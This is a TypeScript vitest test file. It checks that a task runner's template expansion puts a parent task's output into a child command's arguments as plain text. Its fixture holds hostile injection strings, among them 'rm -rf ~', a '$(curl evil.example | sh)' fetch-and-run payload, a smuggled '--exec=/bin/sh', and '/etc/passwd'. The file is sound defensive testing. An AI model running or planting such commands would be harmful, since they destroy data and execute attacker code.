import { describe, expect, it } from 'vitest';
import type { AltTask } from '../../src/formats/index.js';
import { TaskTemplates } from '../../src/runner/scheduler/templates.js';

type Shell = Extract<AltTask, { kind: 'shell' }>;

/** Outputs a parent task (or a model, or a web page it fetched) could produce to hijack a child. */
const hostile = {
  chained: 'x; rm -rf ~ #',
  substitution: '$(curl evil.example | sh)',
  spaces: 'a b --force',
  template: '{{ inputs.secret }}',
  newline: 'ok\n--exec=/bin/sh',
  list: ['--output', '/etc/passwd'],
};

describe('templates: a parent output cannot change a child command', () => {
  it('fills each value into its own argv item as plain text, never split, never re-parsed', () => {
    const child = {
      id: 'child',
      kind: 'shell',
      needs: ['parent'],
      argv: ['echo', ...Object.keys(hostile).map((k) => `{{ tasks.parent.output.${k} }}`), 'pre-{{ tasks.parent.output.chained }}-post'],
    } as unknown as AltTask;
    const templates = new TaskTemplates([child]);
    const values = { inputs: { secret: 'must-not-appear' }, output: () => ({ found: true, value: hostile }) };

    const filled = templates.expand(0, child, values) as Shell;

    expect(filled.argv).toEqual([
      'echo',
      hostile.chained,
      hostile.substitution,
      hostile.spaces,
      '{{ inputs.secret }}',
      hostile.newline,
      '["--output","/etc/passwd"]',
      `pre-${hostile.chained}-post`,
    ]);
    expect(filled.argv).toHaveLength((child as Shell).argv.length);
    expect(JSON.stringify(filled)).not.toContain('must-not-appear');
  });

  it('does not let a value reach fields that are never templated (kind, needs, when, timeout)', () => {
    const child = { id: 'c', kind: 'shell', needs: ['p'], when: '{{ tasks.p.output }}', timeout: '5s', argv: ['echo', '{{ tasks.p.output }}'] } as unknown as AltTask;
    const templates = new TaskTemplates([child]);
    const filled = templates.expand(0, child, { inputs: {}, output: () => ({ found: true, value: 'approval' }) }) as Shell;
    expect(filled).toMatchObject({ kind: 'shell', needs: ['p'], when: '{{ tasks.p.output }}', timeout: '5s', argv: ['echo', 'approval'] });
  });
});
